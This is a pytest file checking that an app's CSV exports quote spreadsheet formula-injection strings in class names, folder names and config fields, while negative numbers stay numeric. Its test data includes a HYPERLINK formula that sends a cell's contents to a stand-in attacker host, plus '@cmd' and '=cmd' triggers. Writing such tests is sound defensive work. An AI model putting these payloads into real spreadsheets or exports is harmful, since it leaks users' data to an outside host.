"""Spreadsheet formula injection through the CSV downloads: class names, a model's folder name and
its config strings that start with = + - @ reach every CSV the app offers as quoted text, never as a
live formula, and numbers stay numbers."""

import csv
import io

import numpy as np
import pytest

from hashviz import codemap
from hashviz import compare_view as cv
from hashviz import leaderboard as lb
from hashviz.comparison import compare_models
from hashviz.exports import csv_bytes, model_context
from hashviz.failures import failure_report
from hashviz.neighbour_table import neighbour_table
from hashviz.zoo import class_names_of, discover

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open me")', "+SUM(1,2)", "-2+3", "@cmd"]
FOLDER = "=cmd"


@pytest.fixture(scope="module")
def hostile_root(tmp_path_factory):
    """Two codes-only imports of the same queries and database whose class names, method, family and
    (for one) folder name are formulas."""
    from hashviz.importing import import_codes
    tmp = tmp_path_factory.mktemp("formulas")
    rng = np.random.default_rng(0)
    labels = {"dbl": rng.integers(0, 4, 80), "ql": rng.integers(0, 4, 6)}
    (tmp / "names.txt").write_text("\n".join(FORMULAS) + "\n")
    for name, seed in ((FOLDER, 1), ("plain-16", 2)):
        codes = np.random.default_rng(seed)
        files = {"db": codes.integers(0, 2, (80, 16)), "dbl": labels["dbl"], "q": codes.integers(0, 2, (6, 16)),
                 "ql": labels["ql"]}
        for key, array in files.items():
            np.save(tmp / f"{key}.npy", array)
        import_codes(*(tmp / f"{k}.npy" for k in files), tmp / "models" / name, class_names=tmp / "names.txt",
                     method="@method", family="+family")
    models, invalid = discover(tmp / "models")
    assert not invalid and sorted(m.name for m in models) == sorted([FOLDER, "plain-16"])
    return {m.name: m for m in models}


def cells(data: bytes) -> list[str]:
    """Every cell of the CSV as a spreadsheet splits it (comment lines included: a spreadsheet
    shows them as cells too)."""
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]


def assert_no_live_formula(data: bytes, quoted=()) -> None:
    """No cell starts a formula (numbers aside); each of `quoted` is there as text behind a quote."""
    found = cells(data)
    for cell in found:
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(cell), cell
    for text in quoted:
        assert "'" + text in found, text


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_every_csv_the_app_offers_quotes_formulas(hostile_root):
    evil, plain = hostile_root[FOLDER], hostile_root["plain-16"]
    names = class_names_of(evil)
    assert names == FORMULAS

    board = lb.leaderboard_csv(lb.leaderboard_table(list(hostile_root.values())), list(hostile_root.values()))
    assert_no_live_formula(board, ["@method", FOLDER])

    top = neighbour_table(evil, 0, n=20)
    neighbours = csv_bytes(top, model_context(evil), title="top 20")
    assert_no_live_formula(neighbours, set(top["labels"]))
    assert neighbours.decode("utf-8").splitlines()[1] == f"# model: {FOLDER}"    # a comment cell starts '#'

    selection = csv_bytes(codemap.selection_table(evil, range(40), names), model_context(evil))
    assert_no_live_formula(selection, set(codemap.selection_table(evil, range(40), names)["labels"]))

    report = failure_report(evil, n=10, worst=6)
    assert_no_live_formula(csv_bytes(report.worst, model_context(evil)), set(report.worst["class"]))

    frame = compare_models(evil, plain)
    assert_no_live_formula(cv.compare_csv(frame, evil, plain), set(frame["labels"]))


def test_negative_numbers_stay_numbers_next_to_quoted_text(hostile_root):
    import pandas as pd
    table = pd.DataFrame({"label": FORMULAS, "delta": [-0.5, -2, 0.25, -1e-3]})
    data = csv_bytes(table, model_context(hostile_root["plain-16"]))
    back = pd.read_csv(io.BytesIO(data), comment="#")
    assert back["delta"].tolist() == [-0.5, -2, 0.25, -1e-3]
    assert back["label"].tolist() == ["'" + f for f in FORMULAS]
